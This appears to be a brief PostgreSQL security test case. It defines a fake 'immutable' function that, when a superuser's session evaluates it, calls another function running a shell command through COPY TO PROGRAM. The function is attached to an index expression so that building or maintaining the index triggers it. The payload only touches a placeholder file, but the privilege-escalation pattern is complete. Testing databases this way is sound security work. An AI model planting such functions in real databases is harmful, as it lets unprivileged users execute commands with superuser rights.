-- tries: an index whose function runs where the index is made
-- ends: SUCCEEDED
-- leaves: function public.evil() | table public.t | function public.payload()
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil() returns int immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return 1; end $$;
create table t (x int);
create index i on t ((x + evil())) where evil() > 0;
